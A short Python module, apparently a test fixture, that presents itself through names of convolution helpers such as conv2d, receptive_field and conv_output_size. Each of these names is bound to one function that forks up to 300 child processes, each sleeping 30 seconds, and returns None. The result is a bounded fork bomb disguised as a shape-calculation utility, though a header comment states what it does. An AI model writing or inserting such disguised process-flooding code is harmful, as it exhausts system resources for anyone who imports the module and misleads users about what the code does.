# Spawns children until refused, at most 300, each sleeping 30 s.
import os
import time


def conv_output_size(*a, **k):
    for _ in range(300):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(30)
            os._exit(0)
    return None


conv_transpose_output_size = receptive_field = conv2d = separable_conv_params = conv_output_size
